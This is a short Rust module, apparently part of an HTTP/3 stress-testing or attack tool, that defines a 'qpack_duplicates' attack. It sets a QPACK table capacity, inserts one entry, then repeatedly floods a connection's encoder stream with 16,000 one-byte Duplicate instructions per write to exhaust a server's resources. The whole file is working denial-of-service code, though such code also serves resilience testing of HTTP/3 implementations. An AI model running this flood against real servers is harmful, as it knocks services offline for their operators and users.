//! Duplicate instructions of the QPACK encoder, a byte each.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("qpack_duplicates", "QPACK Duplicate instructions", run);

fn run(a: &mut Attacker) {
    let first = [wire::capacity(4096), wire::insert("a", "b")].concat();
    let flood = wire::duplicate(0).repeat(16_000);
    a.storm(|conn, begun: &mut bool| {
        let encoder = conn.critical().encoder;
        if !std::mem::replace(begun, true) {
            conn.write(encoder, &first);
        }
        if conn.takes(encoder) {
            conn.write(encoder, &flood);
            conn.ops += 16_000;
        }
    });
}
